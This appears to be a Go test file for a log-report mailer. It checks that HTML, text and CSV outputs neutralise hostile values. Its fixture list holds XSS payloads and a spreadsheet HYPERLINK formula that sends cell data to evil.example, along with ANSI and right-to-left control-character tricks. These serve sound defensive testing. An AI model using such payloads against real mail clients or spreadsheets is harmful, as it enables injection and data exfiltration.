package mail

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"vigil/internal/export"
	"vigil/schema"
)

// hostile are values as attackers write them into logs.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `=HYPERLINK("http://evil.example/?"&A1,"click")`, `http://evil.example/login`, "www.evil.example",
	"\x1b[31mred\x1b[0m", "admin\u202egpj.exe", "two\r\nlines", "{{.Link}}", "javascript:alert(1)", "\xff\xfe", strings.Repeat("a", 1<<20), "</td></table></body>", "@SUM(1)", "-2+3",
}

func sample() Mail {
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	table := Panel{Title: hostile[0], Query: "| top 10 user.name", Columns: []export.Column{{Name: "user.name", Kind: schema.Text}, {Name: hostile[1], Kind: schema.Double}}}
	for i, v := range hostile {
		table.Rows = append(table.Rows, []any{v, float64(1500 - 100*i)})
	}
	chart := Panel{Title: "Over time", Query: "| timechart count() by host.name", Columns: []export.Column{{Name: "time", Kind: schema.Date}, {Name: hostile[4], Kind: schema.Double}, {Name: "b", Kind: schema.Double}}}
	for i := range 180 {
		chart.Rows = append(chart.Rows, []any{at.Add(time.Duration(i) * time.Minute), float64(i % 60), float64(1)})
	}
	return Mail{Title: hostile[1], Description: hostile[3], From: at.AddDate(0, 0, -1), To: at, Zone: time.UTC, Sender: hostile[0], Report: "monday", Panels: []Panel{table, chart,
		{Title: "Events", Query: "| stats count()", Columns: []export.Column{{Name: "count", Kind: schema.Double}}, Rows: [][]any{{float64(1234567)}}},
		{Title: "Nothing", Query: "x:y", Columns: []export.Column{{Name: "count", Kind: schema.Double}}},
		{Title: "Broken", Query: "sql: SELECT", Problem: hostile[2]}}}
}

// TestHostileValues: nothing that comes from an event, a title or a user is markup, a link or
// a control where the mail is read.
func TestHostileValues(t *testing.T) {
	m := sample()
	html, err := m.HTML(hostile[:2])
	if err != nil {
		t.Fatal(err)
	}
	text := m.Text(hostile[:2])
	for name, out := range map[string]string{"html": html, "text": text} {
		for _, bad := range []string{"://", "www.evil", "\x1b", "\u202e", "\r", "<img", "<script", "<a ", "ZgotmplZ"} {
			if name == "text" && strings.HasPrefix(bad, "<") {
				continue // a text has no markup
			}
			if strings.Contains(out, bad) {
				t.Errorf("the %s holds %q", name, bad)
			}
		}
		if len(out) > 60_000 {
			t.Errorf("the %s has %d bytes", name, len(out))
		}
		for _, want := range []string{"1,234,567", "found nothing", "No answer: =HYPERLINK", "2026-03-02 08:00:00", "monday", "Too large to go along"} {
			if !strings.Contains(out, want) {
				t.Errorf("the %s lacks %q", name, want)
			}
		}
	}
	// The markup is ours alone: as many elements as for harmless values.
	calm := sample()
	calm.Title, calm.Description, calm.Sender, calm.Panels[0].Title, calm.Panels[0].Columns[1].Name, calm.Panels[4].Problem = "t", "d", "s", "p", "n", "x"
	calm.Panels[1].Columns[1].Name = "a"
	for i := range calm.Panels[0].Rows {
		calm.Panels[0].Rows[i][0] = "v"
	}
	plain, err := calm.HTML([]string{"a", "b"})
	if err != nil {
		t.Fatal(err)
	}
	if a, b := strings.Count(html, "<"), strings.Count(plain, "<"); a != b {
		t.Errorf("%d elements with hostile values, %d without", a, b)
	}
}

// TestFiles: the files hold the values as they are, but none that a spreadsheet would run.
func TestFiles(t *testing.T) {
	m := sample()
	files, left, err := m.Files()
	if err != nil || len(left) != 0 || len(files) != 4 {
		t.Fatalf("%d files, left %v, %v", len(files), left, err)
	}
	if files[0].Name != "01-script-alert-1-script.csv" || files[1].Name != "02-over-time.csv" {
		t.Errorf("%s %s", files[0].Name, files[1].Name)
	}
	rows, err := csv.NewReader(strings.NewReader(string(files[0].Body))).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, r := range rows[1:] {
		if strings.ContainsAny(r[0][:1], "=+-@") {
			t.Errorf("a formula: %.40q", r[0])
		}
	}
	if !slices.ContainsFunc(rows, func(r []string) bool { return r[0] == hostile[3] }) {
		t.Error("an address is not as it was")
	}
	// What is too large is left out, and told.
	for range 6 {
		m.Panels = append(m.Panels, m.Panels[0])
	}
	files, left, err = m.Files()
	size := 0
	for _, f := range files {
		size += len(f.Body)
	}
	if err != nil || size > maxFiles || len(left) == 0 || len(files)+len(left) != 10 {
		t.Errorf("%d files of %d bytes, left %d, %v", len(files), size, len(left), err)
	}
}

// TestPictures: how a panel is drawn follows its answer, and the bars its values.
func TestPictures(t *testing.T) {
	m := sample()
	bars := m.panel(m.Panels[0])
	if len(bars.Rows) != len(hostile) || bars.Rows[0].Bar != barWidth || bars.Rows[len(hostile)-1].Bar >= barWidth/4 || bars.Rows[len(hostile)-1].Bar < 1 {
		t.Errorf("%+v", bars.Rows)
	}
	chart := m.panel(m.Panels[1]).Strip
	if chart == nil || len(chart.Bars) != stripBars || slices.Max(chart.Bars) != stripHeight || len([]rune(chart.Sparks)) != stripBars || chart.Series[1].Total != "180" {
		t.Errorf("%+v", chart)
	}
	wide := Panel{Title: "w", Show: "table"}
	for i := range 12 {
		wide.Columns = append(wide.Columns, export.Column{Name: fmt.Sprint("c", i), Kind: schema.Text})
	}
	for range 30 {
		wide.Rows = append(wide.Rows, make([]any, 12))
	}
	if v := m.panel(wide); len(v.Rows) != maxRows || len(v.Head) != maxCells || v.Note != "the first 20 rows of 30, 8 of 12 columns" || v.Rows[0].Bar != -1 {
		t.Errorf("%d rows, %d columns, %q", len(v.Rows), len(v.Head), v.Note)
	}
	// A dashboard may ask for a picture that the answer does not allow.
	for _, show := range []string{"bar", "line", "area", "number", "table"} {
		for _, p := range []Panel{wide, m.Panels[0], m.Panels[2], {Title: "e", Columns: m.Panels[0].Columns}} {
			p.Show = show
			_ = m.panel(p)
		}
	}
	for f, want := range map[float64]string{0: "0", 999: "999", 1000: "1,000", -1234567: "-1,234,567", 0.5: "0.5", 2.0 / 3: "0.667"} {
		if got := number(f); got != want {
			t.Errorf("number(%v) = %s, want %s", f, got, want)
		}
	}
}
